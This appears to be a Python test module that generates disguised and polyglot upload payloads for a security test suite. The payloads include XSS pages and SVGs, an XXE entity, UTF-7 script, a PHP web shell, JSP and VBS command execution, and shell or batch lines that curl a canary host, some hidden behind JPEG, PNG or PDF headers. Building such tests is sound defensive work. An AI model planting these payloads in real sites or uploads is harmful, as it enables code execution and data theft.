"""What is not what it is called: pages, programs and scripts under harmless names, and files that are two things."""

from __future__ import annotations

from collections.abc import Iterator

from tests.faults.hostile.attack import EVENING, IMPORT, LIST, NOTE, Attack, fixed
from tests.pictures import photo

NAMES = (b"a.jpg", b"a.png", b"a.pdf", b"a.txt")


def scripts(canary: str) -> dict[str, bytes]:
    """Pages and drawings that call ``canary`` and name themselves when a browser runs them."""
    run = f"document.title='HOSTILE';fetch('{canary}/ran');alert(1)"
    page = f'<html><body onload="{run}"><script>{run}</script><img src={canary}/img onerror={run!r}></body></html>'
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    outside = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/xxe">]><html xmlns="http://www.w3.org/1999/xhtml"><p>&e;</p>'
    return {
        "page": page.encode(),
        "drawing": drawing.encode(),
        "xhtml": f"<?xml version='1.0'?>{outside}<script>{run}</script></html>".encode(),
        "script": f"/*\n*/;{run}//".encode(),
        "utf-7": f"+ADw-script+AD4-{run}+ADw-/script+AD4-".encode(),
        "utf-16": page.encode("utf-16"),
        "redirect": f'<meta http-equiv="refresh" content="0;url={canary}/gone">'.encode(),
    }


def programs(canary: str) -> dict[str, bytes]:
    """What an operating system would start."""
    return {
        "exe": b"MZ" + b"\x90\0" * 64 + b"This program cannot be run in DOS mode.",
        "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 120,
        "bat": f"@echo off\r\nstart {canary}/bat\r\n".encode(),
        "shell": f"#!/bin/sh\ncurl {canary}/sh\n".encode(),
        "php": b"<?php system($_GET['c']); ?>",
        "jsp": b"<%@page import='java.io.*'%><% Runtime.getRuntime().exec(\"id\"); %>",
        "vbs": b'CreateObject("WScript.Shell").Run "calc"',
        "lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60,
        "url": f"[InternetShortcut]\r\nURL={canary}/url\r\n".encode(),
        "swf": b"FWS\x09" + b"\0" * 60,
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60,
        "cab": b"MSCF" + b"\0" * 60,
        "chm": b"ITSF\x03\0\0\0" + b"\0" * 60,
        "mht": f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src={canary}/mht>".encode(),
        "eicar": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    }


def beginnings() -> dict[str, bytes]:
    """What makes a file look like something else: its first bytes, or the whole of a good one."""
    return {
        "jpeg": photo((60, 40)),
        "jpeg mark": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
        "png": photo((60, 40), "PNG"),
        "pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
        "gif": b"GIF89a/*\x01\0*/=1;",
        "webp": photo((60, 40), "WEBP"),
        "mp3": b"ID3\x04\0\0\0\0\0\x0a" + b"\0" * 10,
        "mp4": b"\0\0\0\x18ftypisom\0\0\2\0isomiso2",
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
        "bom": b"\xef\xbb\xbf",
        "blanks": b" \n\t" * 300,
        "zip": b"PK\x05\x06" + b"\0" * 18,
    }


def attacks(canary: str) -> Iterator[Attack]:
    """Every page and program under every name, and behind every beginning."""
    pages = scripts(canary)
    for what, data in {**pages, **programs(canary)}.items():
        for name in NAMES:
            yield Attack("disguised", f"{what} called {name.decode()}", name, fixed(data), (NOTE,))
    for what, data in pages.items():
        yield Attack("disguised", f"{what} called a table", b"a.csv", fixed(data), (LIST, IMPORT))
        for start, head in beginnings().items():
            doors = (NOTE, EVENING) if start in ("jpeg", "png", "webp") else (NOTE,)
            yield Attack("polyglots", f"{start} and {what}", b"a.html", fixed(head + data), doors)
